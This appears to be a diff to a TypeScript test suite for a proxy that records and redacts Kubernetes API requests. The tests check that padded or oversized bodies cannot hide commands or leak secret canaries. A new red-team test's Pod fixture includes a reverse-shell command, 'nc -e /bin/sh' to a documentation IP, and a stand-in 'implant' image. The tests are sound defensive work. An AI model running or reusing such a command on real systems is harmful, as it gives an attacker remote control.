@@ -137,20 +137,38 @@ describe('5b. recordings of large and Secret bodies', () => {
     expect(canariesInRecordings(proxy.recordings, [value, ...canaries.values])).toEqual([]);
   });
 
-  it('a create far past the record limit is recorded as its skeleton: padding cannot hide what it does', async () => {
+  it('a create past the record limit is recorded as its skeleton: padding cannot hide what it does', async () => {
     const value = canaryValue('huge');
     const name = uniqueName('huge');
     const cm = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name, annotations: { pad: 'x'.repeat(200 * 1024) } }, data: { filler: 'x'.repeat(300 * 1024), password: value, command: 'EVIL-COMMAND-MARKER-42' } };
     const r = await agent('POST', `/api/v1/namespaces/${ns}/configmaps?dryRun=All`, { headers: { 'content-type': 'application/json' }, body: JSON.stringify(cm) });
     expect(r.status).toBe(201);
     await new Promise((res) => setTimeout(res, 300));
-    const rec = records().find((x) => x.method === 'POST' && x.path.includes('/configmaps') && JSON.stringify(x.requestBody ?? '').includes('its skeleton is recorded'));
+    const rec = records().find((x) => x.method === 'POST' && x.path.includes('/configmaps') && JSON.stringify(x.requestBody ?? '').includes('as its size and sha256'));
     const body = rec?.requestBody as { bytes: number; sha256: string; skeleton: { metadata: { name: string }; data: Record<string, string> } };
     expect(body.bytes).toBeGreaterThan(500 * 1024);
     expect(body.sha256).toMatch(/^[0-9a-f]{64}$/);
     expect(body.skeleton.metadata.name).toBe(name);
     expect(body.skeleton.data.command).toBe('EVIL-COMMAND-MARKER-42');
-    expect(body.skeleton.data.filler).toMatch(/^x{256}…\[airlock: 307200 bytes, sha256 [0-9a-f]{64}\]$/);
+    expect(body.skeleton.data.filler).toMatch(/^\[airlock: 307200 bytes, sha256 [0-9a-f]{64}\]$/);
+    expect(canariesInRecordings(proxy.recordings, [value, ...canaries.values])).toEqual([]);
+  });
+
+  it('a skeleton keeps every field (red team): no value without its context, nothing pushed out by padding', async () => {
+    const value = canaryValue('skel');
+    const filler = Array.from({ length: 17 }, (_, i) => ({ name: `init${i}`, image: 'x', env: Array.from({ length: 100 }, (__, j) => ({ name: `V${j}`, value: 'v' })) }));
+    const pod = {
+      apiVersion: 'v1', kind: 'Pod',
+      metadata: { name: uniqueName('skel'), annotations: Object.fromEntries(Array.from({ length: 70 }, (_, i) => [`pad${i}`, 'p'.repeat(1000)])) },
+      spec: { initContainers: filler, containers: [{ name: 'c', image: 'evil.example/implant:1', command: ['sh', '-c', 'nc -e /bin/sh 203.0.113.9 4444'], env: [{ value, name: 'DB_PASSWORD' }], args: ['a'.repeat(300 * 1024)] }] },
+    };
+    const r = await agent('POST', `/api/v1/namespaces/${ns}/pods?dryRun=All`, { headers: { 'content-type': 'application/json' }, body: JSON.stringify(pod) });
+    expect([201, 403]).toContain(r.status);
+    await new Promise((res) => setTimeout(res, 300));
+    const rec = records().find((x) => x.method === 'POST' && JSON.stringify(x.requestBody ?? '').includes(pod.metadata.name));
+    const text = JSON.stringify(rec?.requestBody);
+    expect(text).toContain('evil.example/implant:1');
+    expect(text).toContain('nc -e /bin/sh 203.0.113.9 4444');
     expect(canariesInRecordings(proxy.recordings, [value, ...canaries.values])).toEqual([]);
   });
 
